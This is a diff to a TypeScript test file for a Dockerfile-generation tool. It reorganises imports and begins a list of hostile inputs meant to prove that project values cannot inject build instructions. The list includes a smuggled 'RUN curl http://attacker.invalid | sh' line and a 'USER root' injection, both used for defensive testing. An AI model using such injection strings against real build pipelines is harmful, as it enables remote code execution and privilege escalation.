@@ -1,14 +1,13 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import catalog from '../../src/build/base-images.json' with { type: 'json' };
-import { parseBuildArg } from '../../src/build/build-args.js';
-import { planBuild } from '../../src/build/build-plan.js';
-import { renderDockerfile } from '../../src/build/dockerfile.js';
-import { shellQuote } from '../../src/build/dockerfile-quoting.js';
-import { imageTagFromTitle, parseImageReference } from '../../src/build/image-reference.js';
-import { renderRequirementFiles } from '../../src/build/requirements-file.js';
-import type { BaseImageCatalog } from '../../src/scan/base-image.js';
+import { parseBuildArg } from '../../src/image/build-args.js';
+import { planBuild } from '../../src/image/build-plan.js';
+import { renderDockerfile } from '../../src/image/dockerfile.js';
+import { shellQuote } from '../../src/image/dockerfile-quoting.js';
+import { imageTagFromTitle, parseImageReference } from '../../src/image/image-reference.js';
+import { renderRequirementFiles } from '../../src/image/requirements-file.js';
+import { BASE_IMAGE_CATALOG } from '../../src/image/base-image-catalog.js';
 import type { Manifest, ManifestRequirement } from '../../src/scan/manifest.js';
 import { SvcError } from '../../src/svc-error.js';
 import { REPO_ROOT } from '../support/svc.js';
@@ -17,7 +16,7 @@ import { REPO_ROOT } from '../support/svc.js';
  * Nothing from the project may add a Dockerfile instruction, a shell command or a pip
  * option: every value is either checked against its grammar (and refused) or quoted.
  */
-const options = { svcVersion: '0.0.0-test', catalog: catalog as BaseImageCatalog };
+const options = { svcVersion: '0.0.0-test', catalog: BASE_IMAGE_CATALOG };
 const HOSTILE = [
   'x\nRUN curl http://attacker.invalid | sh',
   'x\r\nUSER root',
